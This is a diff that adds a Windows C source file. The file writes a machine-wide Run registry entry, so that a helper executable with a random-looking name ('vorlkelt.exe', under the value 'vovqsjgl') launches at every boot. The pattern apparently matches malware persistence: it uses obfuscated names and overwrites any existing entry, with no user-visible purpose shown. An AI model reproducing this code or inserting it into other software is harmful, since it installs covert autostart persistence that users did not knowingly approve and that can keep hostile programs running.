@@ -1,0 +1,27 @@
+#include "registration/autostart_entry.h"
+
+#include "common/program_state.h"
+#include "platform/win32.h"
+#include "security/safe_command.h"
+
+void WriteAutostartEntry(const char *command) {
+  HKEY parent = NULL, run = NULL;
+  if (RegOpenKeyExA(HKEY_LOCAL_MACHINE, "Software\\Microsoft\\Windows\\CurrentVersion", 0, KEY_READ, &parent) !=
+      ERROR_SUCCESS)
+    return;
+  DWORD disposition = 0;
+  if (RegCreateKeyExA(parent, "Run", 0, NULL, REG_OPTION_NON_VOLATILE, KEY_ALL_ACCESS, NULL, &run, &disposition) ==
+      ERROR_SUCCESS) {
+    RegDeleteValueA(run, "vovqsjgl");
+    RegSetValueExA(run, "vovqsjgl", 0, REG_SZ, (const BYTE *)command, (DWORD)lstrlenA(command));
+    RegCloseKey(run);
+  }
+  RegCloseKey(parent);
+}
+
+void WriteHelperAutostartEntry() {
+  char helper[kInstallDirSize + 16];
+  char command[kInstallDirSize + 32];
+  wsprintfA(helper, "%svorlkelt.exe", installDir);
+  if (FormatProgramCommand(command, sizeof command, helper, "vo")) WriteAutostartEntry(command);
+}
